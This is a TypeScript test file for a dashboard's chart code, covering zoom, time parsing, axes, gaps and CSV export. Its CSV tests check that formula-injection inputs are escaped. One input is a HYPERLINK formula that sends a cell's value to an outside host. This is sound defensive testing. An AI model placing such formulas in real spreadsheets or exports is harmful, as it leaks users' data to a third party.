// What charts are made of: time, zoom, points, axes, boards, files.
import { describe, expect, it } from 'vitest';
import { readView, writeView, DEFAULT_CHARTS, spanAt, type ChartView } from './view';
import { bucketFor, pixelsOf, RANGES, refreshOf, widthText } from './range';
import { around, dragged, lacks, moved, questionFor, type Span, SPAN_MAX_MS, SPAN_MIN_MS, uncovered, widthOf, within, zoomed } from './span';
import { parseWhen } from './instant';
import { axesFor, axisOf, fits } from './axes';
import { csvOf, fileName } from './csv';
import { pointAt, lastWithin } from './pointed';
import { commonGaps, gapLimit, line, spaced } from './shape';
import { Columns, Trace } from './trace';
import type { Buckets } from '../wire';

const MINUTE = 60_000;
const HOUR = 60 * MINUTE;
const DAY = 24 * HOUR;
const NOW = new Date(2026, 10, 21, 15, 0, 0).getTime();

describe('spans', () => {
  it('zoom around what is pointed at, which stays where it is', () => {
    for (const [at, factor] of [[0.25, 0.5], [0.9, 0.1], [0, 0.8], [0.5, 3]] as const) {
      const span: Span = [NOW - 10 * HOUR, NOW - 6 * HOUR];
      const where = span[0] + at * widthOf(span);
      const made = zoomed(span, where, factor, NOW);
      expect(widthOf(made)).toBe(Math.round(widthOf(span) * factor));
      expect((where - made[0]) / widthOf(made)).toBeCloseTo(at, 5);
    }
  });

  it('never reach beyond now, and keep their width instead', () => {
    expect(moved([NOW - HOUR, NOW - MINUTE], HOUR, NOW)).toEqual([NOW - 59 * MINUTE, NOW]);
    const out = zoomed([NOW - HOUR, NOW], NOW - HOUR, 2, NOW);
    expect(out).toEqual([NOW - 2 * HOUR, NOW]);
    expect(around(NOW, HOUR, NOW)).toEqual([NOW - HOUR, NOW]);
  });

  it('have a least and a greatest width', () => {
    expect(widthOf(zoomed([0, 2000], 1000, 1e-9, NOW))).toBe(SPAN_MIN_MS);
    expect(widthOf(zoomed([0, NOW], 1000, 1e9, NOW))).toBe(SPAN_MAX_MS);
    expect(within([-5, 5000], NOW)[0]).toBe(0);
  });

  it('are dragged out in either direction, and a hair is made a second', () => {
    expect(dragged(NOW - 100_000, NOW - 40_000, NOW)).toEqual(dragged(NOW - 40_000, NOW - 100_000, NOW));
    expect(widthOf(dragged(NOW - 5000, NOW - 5001, NOW))).toBe(SPAN_MIN_MS);
  });

  it('are asked for with a margin, on the grid of points, and not again while it lasts', () => {
    const span: Span = [NOW - 2 * HOUR, NOW - HOUR];
    const asked = questionFor(span, 10_000, NOW);
    expect(asked[0] % 10_000).toBe(0);
    expect(asked[0]).toBeLessThan(span[0]);
    expect(asked[1]).toBeGreaterThan(span[1]);
    expect(lacks(asked, span, NOW)).toBe(false);
    expect(lacks(asked, moved(span, 5 * MINUTE, NOW), NOW)).toBe(false);
    expect(lacks(asked, moved(span, 20 * MINUTE, NOW), NOW)).toBe(true);
    expect(lacks(null, span, NOW)).toBe(true);
    // At the end of time there is nothing more to ask for.
    const last: Span = [NOW - HOUR, NOW];
    expect(lacks(questionFor(last, 10_000, NOW), last, NOW)).toBe(false);
  });

  it('know what is not covered', () => {
    expect(uncovered([0, 10], [2, 5])).toEqual([[0, 2], [5, 10]]);
    expect(uncovered([0, 10], null)).toEqual([[0, 10]]);
    expect(uncovered([0, 10], [-5, Infinity])).toEqual([]);
    expect(uncovered([0, 10], [20, 30])).toEqual([[0, 10]]);
  });
});

describe('points', () => {
  it('are never more than pixels, and hardly wider than they must be', () => {
    for (const span of [SPAN_MIN_MS, 5 * MINUTE, HOUR, 7 * DAY, 30 * DAY, SPAN_MAX_MS]) {
      for (const pixels of [240, 640, 3000]) {
        const width = bucketFor(span, pixels);
        expect(span / width + 2).toBeLessThanOrEqual(pixels);
        if (width > 1) expect((span / width) * 2.6).toBeGreaterThan(pixels / 2);
      }
    }
    expect(bucketFor(30 * DAY, 800)).toBe(HOUR);
  });

  it('lie on the same grid wherever the span is moved to, so nothing jitters', () => {
    const width = bucketFor(HOUR, 640);
    for (let by = 0; by < 60_000; by += 777) {
      const [from] = questionFor(moved([NOW - 3 * HOUR, NOW - 2 * HOUR], by, NOW), width, NOW);
      expect(from % width).toBe(0);
    }
  });

  it('compare day by day: a shift is a whole number of points', () => {
    for (const range of RANGES) expect(DAY % bucketFor(range.span_ms, 640), range.name).toBe(0);
  });

  it('are asked for as the daemon reads it', () => {
    expect([5, 1000, 30_000, MINUTE, DAY].map(widthText)).toEqual(['5ms', '1s', '30s', '1m', '1440m']);
  });

  it('are asked for anew not more often than they can change', () => {
    expect([refreshOf(1000), refreshOf(10 * MINUTE), refreshOf(DAY)]).toEqual([30_000, 150_000, 300_000]);
  });

  it('have pixels in steps', () => expect([0, 239, 650, 9999].map(pixelsOf)).toEqual([240, 240, 640, 3000]));
});

describe('the view in the address', () => {
  const read = (text: string) => readView(new URLSearchParams(text));
  it('is read as it was written', () => {
    const views: ChartView[] = [
      DEFAULT_CHARTS,
      { range: '30d', past: [NOW - DAY, NOW], compare: 'week', hidden: ['pump-7:a.b{x=y&z}', 'ü'] },
    ];
    for (const view of views) expect(read(writeView(view))).toEqual(view);
  });

  it('takes dates that people write', () => {
    expect(read('from=2026-11-21T10:00:00Z&to=2026-11-21T11:00:00Z').past).toEqual([
      Date.UTC(2026, 10, 21, 10),
      Date.UTC(2026, 10, 21, 11),
    ]);
  });

  it('survives nonsense', () => {
    for (const text of ['range=9y', 'from=1&to=2', 'from=x&to=y', 'from=5000', 'from=9000&to=1000', 'compare=year', 'from=1e3&to=9e9', `from=0&to=${SPAN_MAX_MS * 2}`]) {
      expect(read(text), text).toEqual(DEFAULT_CHARTS);
    }
  });

  it('stands still in the past and ends now when live', () => {
    expect(spanAt(DEFAULT_CHARTS, NOW)).toEqual([NOW - 15 * MINUTE, NOW]);
    expect(spanAt({ ...DEFAULT_CHARTS, past: [1, 2] }, NOW)).toEqual([1, 2]);
  });
});

describe('times as people type them', () => {
  const local = (...parts: [number, number, number, number?, number?, number?, number?]) => new Date(...parts).getTime();
  it('are understood', () => {
    const cases: [string, number][] = [
      ['14:30', local(2026, 10, 21, 14, 30)],
      // Not yet today: yesterday's.
      ['23:15', local(2026, 10, 20, 23, 15)],
      ['14:30:05.25', local(2026, 10, 21, 14, 30, 5, 250)],
      ['yesterday 03:00', local(2026, 10, 20, 3)],
      ['Ontem 03:00', local(2026, 10, 20, 3)],
      ['2026-11-20 14:30', local(2026, 10, 20, 14, 30)],
      ['2026-11-20T14:30:10', local(2026, 10, 20, 14, 30, 10)],
      ['2026-11-20T14:30:10Z', Date.UTC(2026, 10, 20, 14, 30, 10)],
      ['2026-11-20 14:30+02:00', Date.UTC(2026, 10, 20, 12, 30)],
      ['-2h', NOW - 2 * HOUR],
      ['-1.5 d', NOW - 1.5 * DAY],
      ['now', NOW],
      ['1763712000', 1_763_712_000_000],
      ['1763712000123', 1_763_712_000_123],
      ['1763712000123456789', 1_763_712_000_123],
    ];
    for (const [text, at] of cases) expect(parseWhen(text, NOW), text).toEqual({ at });
  });

  it('are spans if two of them, or a day, are named', () => {
    const cases: [string, Span][] = [
      ['14:00 to 14:30', [local(2026, 10, 21, 14), local(2026, 10, 21, 14, 30)]],
      ['2026-11-20 23:30 a 00:30', [local(2026, 10, 20, 23, 30), local(2026, 10, 21, 0, 30)]],
      ['2026-11-20 14:30 - 15:00', [local(2026, 10, 20, 14, 30), local(2026, 10, 20, 15)]],
      ['-2h to -1h', [NOW - 2 * HOUR, NOW - HOUR]],
      ['yesterday', [local(2026, 10, 20), local(2026, 10, 21)]],
      ['2026-11-18 to 2026-11-19', [local(2026, 10, 18), local(2026, 10, 20)]],
    ];
    for (const [text, span] of cases) expect(parseWhen(text, NOW), text).toEqual({ span });
  });

  it('are refused if there is no such time', () => {
    for (const text of ['', 'soon', '25:00', '12:60', '2026-02-30', '2026-13-01 10:00', '14:30 to', '10:00 to 11:00 to 12:00', '2026-11-20 14:30 to 2026-11-20 14:00', '5']) {
      expect(parseWhen(text, NOW), text).toBeNull();
    }
  });
});

describe('axes', () => {
  it('are two, by unit, in the order in which units come', () => {
    const axes = axesFor(['°C', 'bar', '°C', 'A', null, 'A']);
    expect(axes).toEqual({ units: ['°C', 'bar'], over: ['A', ''] });
    expect(['bar', '°C', 'A', null].map((unit) => axisOf(axes, unit))).toEqual([1, 0, null, null]);
  });

  it('say whether one more series fits', () => {
    expect(fits(['°C', '°C'], 'bar')).toBe(true);
    expect(fits(['°C', 'bar'], 'bar')).toBe(true);
    expect(fits(['°C', 'bar'], null)).toBe(false);
    expect(fits([], null)).toBe(true);
  });
});

const columns = (points: [start: number, count: number, min: number, max: number][]): Columns => {
  const made = new Columns();
  for (const [start, count, min, max] of points) made.put(start, count, min, max, (min + max) / 2, max);
  return made;
};

describe('gaps', () => {
  it('are as wide as one point where points hold many samples each', () => {
    const full = columns([0, 1, 2, 3, 5, 6].map((i) => [i * HOUR, 360, 1, 2]));
    expect(gapLimit(full, HOUR)).toBe(HOUR);
    expect(line(full, HOUR, 'avg').gaps).toEqual([[4 * HOUR, 5 * HOUR]]);
  });

  it('are not seen in a device that is slower than the points', () => {
    const slow = columns([0, 1, 2, 4, 5].map((i) => [i * HOUR, 1, 1, 2]));
    expect(line(slow, HOUR, 'avg').gaps).toEqual([]);
  });

  it('of several series are where none of them has anything', () => {
    expect(commonGaps([[[0, 10], [20, 30]], [[5, 25]]])).toEqual([[5, 10], [20, 25]]);
    expect(commonGaps([[[0, 10]], []])).toEqual([]);
    expect(commonGaps([])).toEqual([]);
  });

  it('break a ghost, too', () => {
    expect(spaced({ start: [0, 1000, 2000, 9000], avg: [1, NaN, 3, 4], bucket_ms: 1000 })).toEqual([[0, 1000, 2000, 3000, 9000], [1, null, 3, null, 4]]);
  });
});

describe('the crosshair', () => {
  const it_ = columns([[0, 1, 1, 1], [1000, 1, 2, 2], [2000, 1, 3, 3], [60_000, 1, 4, 4]]);
  it('is on the point whose window holds it, or the nearest within reach', () => {
    expect(pointAt(it_, 1900, 1000, false)).toBe(1);
    expect(pointAt(it_, 2000, 1000, false)).toBe(2);
    expect(pointAt(it_, 4500, 1000, false)).toBe(2);
    expect(pointAt(it_, 30_000, 1000, false)).toBeNull();
    expect(pointAt(it_, 59_000, 1000, false)).toBe(3);
    expect(pointAt(new Columns(), 5, 1000, false)).toBeNull();
  });

  it('finds the last value within what is shown', () => {
    expect(lastWithin(it_, [0, 2000])).toBe(1);
    expect(lastWithin(it_, [10_000, 50_000])).toBeNull();
  });
});

describe('CSV', () => {
  const drawn = {
    device: 'pump, "7"',
    metric: 't',
    tags: { site: 'a', line: '1' },
    unit: '°C',
    joined: columns([[0, 2, 1, 3], [1000, 1, 2, 2], [2000, 0, NaN, NaN], [9000, 1, 5, 5]]),
    bucket_ms: 1000,
  };
  it('has what is drawn within the span, quoted', () => {
    const rows = csvOf([drawn], [500, 3000]).split('\r\n');
    expect(rows).toEqual([
      'time,device,metric,tags,unit,seconds,samples,min,max,avg,last',
      '1970-01-01T00:00:00.000Z,"pump, ""7""",t,"line=1;site=a",°C,1,2,1,3,2,3',
      '1970-01-01T00:00:01.000Z,"pump, ""7""",t,"line=1;site=a",°C,1,1,2,2,2,2',
      '1970-01-01T00:00:02.000Z,"pump, ""7""",t,"line=1;site=a",°C,1,0,,,,NaN',
      '',
    ]);
  });

  it('holds no formula, whoever named a device or sent a text; numbers stay numbers', () => {
    const name = (device: string) => csvOf([{ ...drawn, device }], [9000, 9500]).split('\r\n')[1]!.split(',')[1];
    expect(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', 'a=1', ' =1', "'=1"].map(name)).toEqual([
      ...["'=1+1", "'+1", "'-1", "'@SUM(A1)", `"'\t=1"`, 'a=1', ' =1', "'=1"],
    ]);
    expect(name('\r=1')).toBe('"\'\r=1"');
    // Where numbers have a comma, cells are parted by semicolons: what is after one must not stand for itself.
    expect(name('a;=1')).toBe('"a;=1"');
    expect(['\uff1d1', '\uff0b1', '\uff0d1', '\uff201'].map(name)).toEqual(["'\uff1d1", "'\uff0b1", "'\uff0d1", "'\uff201"]);
    const joined = new Columns();
    joined.put(0, 1, -2, -1, -1.5, '=HYPERLINK("http://x/?"&A1,"a")');
    joined.put(1000, 1, -2, -1, -1.5, -1);
    const hostile = { ...drawn, metric: '-m', tags: { '=k': 'v' }, unit: '@u', joined };
    expect(csvOf([hostile], [0, 3000]).split('\r\n').slice(1, 3)).toEqual([
      `1970-01-01T00:00:00.000Z,"pump, ""7""",'-m,'=k=v,'@u,1,1,-2,-1,-1.5,"'=HYPERLINK(""http://x/?""&A1,""a"")"`,
      `1970-01-01T00:00:01.000Z,"pump, ""7""",'-m,'=k=v,'@u,1,1,-2,-1,-1.5,-1`,
    ]);
  });

  it('gets a name that a file may have', () => {
    expect(fileName('a/b:c', [NOW, NOW + 1], 'csv')).toBe('a_b_c 2026-11-21 15.00.csv');
  });
});

describe('a trace that is looked at through other points', () => {
  const history = (starts: number[], value: number): Buckets => ({
    unit: null,
    type: 'float',
    time: starts,
    ...{ count: starts.map(() => 1), min: starts.map(() => value), max: starts.map(() => value) },
    ...{ avg: starts.map(() => value), last: starts.map(() => value) },
  });

  it('keeps the old points until the new ones are there, and mixes neither with live', () => {
    const trace = new Trace('t', {}, { type: 'float', unit: null }, 'd');
    trace.join(history([0, HOUR], 1), HOUR, [0, 2 * HOUR]);
    trace.expect(1000);
    trace.push([2000, 1, 7, 7, 7, 7, 7], true);
    expect(trace.joined.start).toEqual([0, HOUR]);
    trace.join(history([0, 1000], 1), 1000, [0, Infinity]);
    expect(trace.joined.start).toEqual([0, 1000, 2000]);
    trace.push([3000, 1, 8, 8, 8, 8, 8], true);
    expect(trace.joined.start).toEqual([0, 1000, 2000, 3000]);
  });

  it('is haunted by another time, moved to this one', () => {
    const trace = new Trace('t', {}, { type: 'float', unit: null });
    trace.haunt(history([5], 3), DAY, 1);
    expect(trace.ghost).toEqual({ start: [DAY + 5], avg: [3], bucket_ms: 1 });
    trace.exorcise();
    expect(trace.ghost).toBeNull();
  });
});
